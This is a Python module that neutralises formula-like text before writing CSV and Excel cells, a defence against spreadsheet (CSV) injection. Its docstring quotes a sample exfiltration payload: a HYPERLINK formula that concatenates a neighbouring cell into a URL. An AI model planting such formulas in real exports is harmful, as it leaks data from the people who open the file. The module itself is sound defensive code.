"""The one place where text becomes a spreadsheet cell: every Excel and CSV writer goes through it.

A spreadsheet reads a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula (a tab or carriage return
in front can smuggle one past a naive check), so a branch named ``=HYPERLINK("http://…"&A1,"…")`` in a CMS
export would become a live link that sends the neighbouring cells away the moment the workbook is opened
(OWASP "CSV injection"). Such text is written as inert text:

* Excel: a string cell with Excel's *quote prefix* style — shown exactly as written, stays text when edited;
* CSV: the text behind an apostrophe (``'=1+1``), the form spreadsheets show as text.

Numbers are never touched (``-3`` stays a number); only ``str`` cells are checked.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Sequence
from typing import Any, TextIO

#: The first characters that make a spreadsheet evaluate a cell.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def is_formula_like(value: object) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def csv_text(value: Any) -> Any:
    """``value`` as a CSV cell: formula-like text behind an apostrophe, everything else unchanged."""
    return "'" + value if is_formula_like(value) else value


def csv_row(values: Iterable[Any]) -> list[Any]:
    return [csv_text(value) for value in values]


def write_csv_rows(file: TextIO, headers: Sequence[Any] | None, rows: Iterable[Sequence[Any]],
                   **options: Any) -> None:
    """Write ``headers`` (when given) and ``rows`` to ``file`` with :mod:`csv`, every cell made inert."""
    writer = csv.writer(file, **options)
    if headers is not None:
        writer.writerow(csv_row(headers))
    for row in rows:
        writer.writerow(csv_row(row))


def excel_cell(sheet: Any, value: Any) -> Any:
    """An openpyxl write-only cell for ``value``; formula-like text is an inert, quote-prefixed string."""
    from openpyxl.cell import WriteOnlyCell

    if is_formula_like(value):
        cell = WriteOnlyCell(sheet, value=value)
        cell.data_type = "s"
        cell.quotePrefix = True
        return cell
    return value
